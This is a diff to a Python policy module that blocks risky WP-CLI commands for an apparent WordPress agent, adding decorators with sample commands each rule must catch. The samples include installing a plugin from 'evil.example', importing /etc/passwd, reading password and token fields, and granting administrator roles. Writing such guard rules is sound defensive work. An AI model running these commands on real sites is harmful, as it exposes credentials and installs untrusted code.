@@ -9,24 +9,18 @@ from __future__ import annotations
 import ipaddress
 import re
 import socket
-from collections.abc import Callable
-from dataclasses import dataclass
 from urllib.parse import urlsplit
 
 from wp_agent.policy.categories import PolicyCategory
+from wp_agent.policy.identifiers import non_plain_identifier
 from wp_agent.policy.masking import folded, is_secret_name, is_secret_option
 from wp_agent.policy.parsed_command import ParsedCommand
+from wp_agent.policy.rule import ArgumentRule, Verdict, argument_rule
+
+__all__ = ["ARGUMENT_RULES", "FORBIDDEN_GLOBALS", "ArgumentRule", "Verdict", "is_dry_run_search_replace"]
 
 B = PolicyCategory.BLOCKED
 D = PolicyCategory.DESTRUCTIVE
-
-
-@dataclass(frozen=True)
-class Verdict:
-    category: PolicyCategory
-    rule: str
-    reason_ja: str
-    pattern: str
 
 
 # FR-5.3 important option keys, plus settings that act like them (theme/plugin switches, roles,
@@ -106,14 +100,16 @@ _PLAIN_KEY = re.compile(r"^[A-Za-z0-9_\-]+$")
 _WEB_PORTS = frozenset({None, 80, 443, 8080})
 _SECRET_SEARCH_WORDS = ("pass", "secret", "token", "key", "salt", "auth", "credential")
 
-Rule = Callable[[ParsedCommand, tuple[str, ...]], Verdict | None]
-
 
 def sanitize_key(value: str) -> str:
     """WordPress sanitize_key(): lowercase, then drop everything but a-z 0-9 _ -."""
     return re.sub(r"[^a-z0-9_\-]", "", value.lower())
 
 
+@argument_rule(
+    match=("post list --exec=phpinfo();", "post list --REQUIRE=/tmp/x.php", "--ssh=host post list"),
+    not_match=("post list --execute=1", "post list --paths=x"),
+)
 def _forbidden_globals(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     for option in cmd.options:
         if option.name in FORBIDDEN_GLOBALS:
@@ -123,6 +119,10 @@ def _forbidden_globals(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | N
     return None
 
 
+@argument_rule(
+    match=("search-replace a b --all-tables", "search-replace a b --all-tables-with-prefix"),
+    not_match=("search-replace a b wp_posts", "search-replace a b --dry-run"),
+)
 def _all_tables(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     for option in cmd.options:
         if option.name.startswith("all-tables"):
@@ -135,6 +135,14 @@ def _all_tables(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     return None
 
 
+@argument_rule(
+    match=(
+        "search-replace a b --export=/tmp/x.sql",
+        "search-replace a b --log=/tmp/x",
+        "search-replace a b 'wp_*'",
+    ),
+    not_match=("search-replace a b --dry-run --precise", "search-replace a b wp_posts wp_postmeta"),
+)
 def _search_replace(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     """Only known-safe options: --log writes files (or dumps rows), --callback calls PHP functions,
     --export dumps SQL; table wildcards reach beyond WordPress's tables."""
@@ -170,6 +178,18 @@ def _field_names(values: list[str]) -> set[str]:
     return {folded(part) for value in values for part in value.split(",")}
 
 
+@argument_rule(
+    match=(
+        "user list --fields=ID,user_pass",
+        "user get 1 --field=user_activation_key",
+        "user meta get 1 session_tokens",
+    ),
+    not_match=(
+        "user list --fields=ID,user_login",
+        "user get 1 --field=user_email",
+        "user meta get 1 nickname",
+    ),
+)
 def _secret_user_fields(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     names = _field_names(cmd.option_values("field", "fields"))
     if path[0] == "user":  # `user get 1 user_pass`, `user meta get 1 session_tokens`
@@ -182,6 +202,10 @@ def _secret_user_fields(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | 
     return None
 
 
+@argument_rule(
+    match=("option get mailserver_pass", "option pluck my_plugin api_key", "option list --search=*secret*"),
+    not_match=("option get blogname", "option list --search=blog*", "option pluck my_plugin colour"),
+)
 def _secret_option_read(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     if path in {("option", "get"), ("option", "pluck"), ("site", "option", "get")}:
         for name in cmd.args_after(path):  # pluck: the option and every key on the path
@@ -200,6 +224,14 @@ def _secret_option_read(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | 
     return None
 
 
+@argument_rule(
+    match=(
+        "option update siteurl http://x",
+        "option delete home",
+        "option patch update wp_user_roles editor x",
+    ),
+    not_match=("option update posts_per_page 5", "option get siteurl"),
+)
 def _important_option(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     if path not in {("option", "update"), ("option", "add"), ("option", "patch"), ("option", "delete")}:
         return None
@@ -227,6 +259,10 @@ def _important_option(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | No
     return None
 
 
+@argument_rule(
+    match=("plugin deactivate --all", "post delete 5 --force", "post update 10-20 --post_status=draft"),
+    not_match=("plugin deactivate akismet", "post delete 5"),
+)
 def _bulk_flags(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     if cmd.has_flag("all") or cmd.has_flag("auto-update-indicated"):
         return Verdict(
@@ -253,6 +289,10 @@ def _bulk_flags(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     return None
 
 
+@argument_rule(
+    match=("post create /etc/passwd --post_title=x", "post update 5 -", "post create --edit"),
+    not_match=("post create --post_title=x --post_content=y", "post update 5 7 --post_status=draft"),
+)
 def _post_content_sources(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     if path not in {("post", "create"), ("post", "update")}:
         return None
@@ -276,6 +316,10 @@ def _post_content_sources(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict 
     return None
 
 
+@argument_rule(
+    match=("post update 5 --post_status=trash", "comment update 3 --comment_approved=spam"),
+    not_match=("post update 5 --post_status=publish", "comment update 3 --comment_approved=1"),
+)
 def _hiding_statuses(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     """Trash by update (WordPress sanitize_key()s the status), and auto-draft, which cron deletes."""
     if path == ("post", "update"):
@@ -299,6 +343,14 @@ def _hiding_statuses(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | Non
     return None
 
 
+@argument_rule(
+    match=(
+        "plugin install https://evil.example/x.zip",
+        "theme install ./t.zip",
+        "plugin install akismet --insecure",
+    ),
+    not_match=("plugin install akismet", "theme install twentytwentythree --activate"),
+)
 def _install_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     if path not in {("plugin", "install"), ("theme", "install")}:
         return None
@@ -321,6 +373,10 @@ def _install_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None
     return None
 
 
+@argument_rule(
+    match=("theme install twentytwentythree --activate", "plugin update akismet --version=5.0"),
+    not_match=("theme install twentytwentythree", "plugin update akismet"),
+)
 def _activation(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     if path in {("theme", "install"), ("theme", "enable")} and cmd.has_flag("activate"):
         return Verdict(
@@ -366,6 +422,10 @@ def _is_public_host(host: str) -> bool:
     return bool((mapped or address).is_global)
 
 
+@argument_rule(
+    match=("media import /etc/passwd", "media import http://127.0.0.1/x.png", "media regenerate --yes"),
+    not_match=("media import https://example.com/x.png", "media regenerate 7 --yes"),
+)
 def _media_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     if path == ("media", "regenerate") and not [a for a in cmd.args_after(path) if _DIGITS.match(a)]:
         return Verdict(
@@ -406,6 +466,14 @@ def _media_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     return None
 
 
+@argument_rule(
+    match=(
+        "user create eve e@x --role=administrator",
+        "user set-role 2 editor",
+        "user update 1 --user_email=x@y",
+    ),
+    not_match=("user create eve e@x --role=subscriber", "user update 1 --display_name=x"),
+)
 def _roles_and_accounts(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     """Administrator grants, any role change of an existing user, and account takeover paths."""
     if path == ("user", "create") and any(folded(r) in _ADMIN_ROLES for r in cmd.option_values("role")):
@@ -447,7 +515,8 @@ def _roles_and_accounts(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | 
 
 
 # Order matters only for which reason is reported first among equal categories.
-ARGUMENT_RULES: tuple[Rule, ...] = (
+ARGUMENT_RULES: tuple[ArgumentRule, ...] = (
+    non_plain_identifier,
     _forbidden_globals,
     _all_tables,
     _search_replace,
